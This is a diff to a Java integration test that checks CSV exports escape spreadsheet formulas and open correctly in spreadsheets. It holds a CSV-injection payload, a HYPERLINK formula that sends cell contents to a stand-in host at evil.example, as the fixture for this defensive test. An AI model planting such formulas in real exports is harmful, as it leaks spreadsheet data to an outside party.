@@ -3,8 +3,9 @@ package io.gatecast.controller;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.awaitility.Awaitility.await;
 
-import io.gatecast.controller.client.ApiClient.Answer;
 import io.gatecast.protocol.PlayBatch.Play;
+import io.gatecast.testkit.ApiClient.Answer;
+import io.gatecast.testkit.IntegrationTest;
 import java.net.URI;
 import java.net.http.HttpClient;
 import java.net.http.HttpRequest;
@@ -22,6 +23,7 @@ import org.junit.jupiter.api.extension.RegisterExtension;
  * (a leading apostrophe), and the CSV starts with a UTF-8 byte order mark so Vietnamese opens
  * right in a spreadsheet program.
  */
+@IntegrationTest
 class CsvFormulaTest {
   private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
   private static final String PERIOD = "from=2026-03-14T00:00:00Z&to=2026-03-17T00:00:00Z";
